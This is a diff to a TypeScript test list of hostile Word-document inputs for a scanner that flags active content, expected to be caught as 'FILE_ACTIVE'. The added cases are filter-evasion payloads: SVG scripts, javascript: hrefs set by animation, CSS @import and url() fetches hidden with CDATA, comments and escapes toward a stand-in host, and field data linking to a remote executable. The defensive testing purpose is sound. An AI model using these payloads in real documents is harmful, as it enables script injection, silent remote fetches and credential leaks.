@@ -46,6 +46,8 @@ const addIn = (store: string) =>
 export const linkData = (target: string) =>
   `<w:fldChar w:fldCharType="begin"><w:fldData>${linkObject(target).toString("base64")}</w:fldData></w:fldChar>`;
 const share = "file://angripare.example/x.exe";
+const splitData = (before: string, after: string) =>
+  linkData(share).replace(/(<w:fldData>.{9})(.+)(<\/w:fldData>)/u, `$1${before}$2${after}$3`);
 const unc = "\\\\angripare.example\\x";
 const unmarked = [
   ["attachedTemplate", "file://angripare.example/mall.dotm"],
@@ -79,11 +81,30 @@ const hiddenWord: Attack[] = [
   ["127 a link to a program on the own disk", linking("hyperlink", "file:///C:\\Windows\\System32\\calc.exe")],
   ["127 the same without a scheme", linking("hyperlink", "C:\\Windows\\System32\\calc.exe")],
   ["135 a link's data beside its code", inBody(linkData("file://angripare.example/x"))],
+  ["135 a link's data in two texts", inBody(splitData("<![CDATA[", "]]>"))],
+  ["135 a link's data around a comment", inBody(splitData("<!-- -->", ""))],
+  ["135 a link's data after an equals sign", inBody(linkData(share).replace("<w:fldData>", "<w:fldData>="))],
   ["128 a script in an SVG", svg("<script>alert(1)</script>")],
   ["128 an event in an SVG", svg('<g onload="alert(1)"/>')],
   ["128 a picture that an SVG fetches", svg('<image href="https://angripare.example/a.png"/>')],
   ["128 a style that an SVG fetches", svg("<style>@import 'https://angripare.example/a'</style>")],
   ["128 a page in an SVG", svg("<foreignObject/>")],
+  [
+    "128 a style that an SVG fetches, in two texts",
+    svg("<style>@im<![CDATA[port 'https://angripare.example/a']]></style>"),
+  ],
+  [
+    "128 a style that an SVG fetches, around an element",
+    svg("<style>@im<g/>port 'https://angripare.example/a'</style>"),
+  ],
+  ["128 a style that an SVG fetches, with an escape", svg("<style>@\\69mport 'https://angripare.example/a'</style>")],
+  ["128 a filter that an SVG fetches, with an escape", svg('<g style="filter:u\\72l(//angripare.example/a#b)"/>')],
+  ["128 a set of pictures that an SVG fetches", svg("<g style=\"fill:image-set('//angripare.example/a' 1x)\"/>")],
+  ["128 an attribute that an SVG sets", svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>')],
+  ["128 an attribute that an SVG moves", svg('<a><animate attributeName="href" values="javascript:alert(1)"/></a>')],
+  ["128 a picture that an SVG fetches by src", svg('<image src="https://angripare.example/a.png"/>')],
+  ["128 a style sheet that an SVG fetches", svg('<?xml-stylesheet href="https://angripare.example/a.css"?>')],
+  ["128 a base of addresses in an SVG", svg('<g xml:base="https://angripare.example/"><use href="#a"/></g>')],
   ["128 a filter that an SVG fetches", svg('<g style="filter:url(//angripare.example/a#b)"/>')],
 ].map(([what, data]) => [what, "brev.docx", data, "FILE_ACTIVE"] as Attack);
 hiddenWord.push(
